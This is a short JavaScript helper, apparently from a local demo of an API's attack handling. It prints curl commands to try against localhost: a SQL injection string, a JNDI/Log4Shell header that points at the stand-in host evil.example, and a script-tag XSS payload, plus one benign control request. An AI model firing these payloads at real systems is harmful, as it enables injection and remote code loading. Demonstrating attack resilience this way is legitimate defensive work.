import pc from 'picocolors';
import { line } from './text.mjs';

/** Lines to paste into another terminal. */
export function showWhatToTry(port) {
  const url = `http://localhost:${port}`;
  line(pc.bold('The API stays up. Try it from another terminal:'));
  line(`  curl '${url}/users?name=1%27%20OR%201=1--'`);
  line(`  curl '${url}/items' -H 'User-Agent: \${jndi:ldap://evil.example/a}'`);
  line(`  curl '${url}/notes' -H 'Content-Type: application/json' -d '{"text":"<script>alert(1)</script>"}'`);
  line(`  curl '${url}/users?name=O%27Brien'   ${pc.dim('# not an attack')}`);
  line(pc.dim('\nCtrl-C ends it.\n'));
}
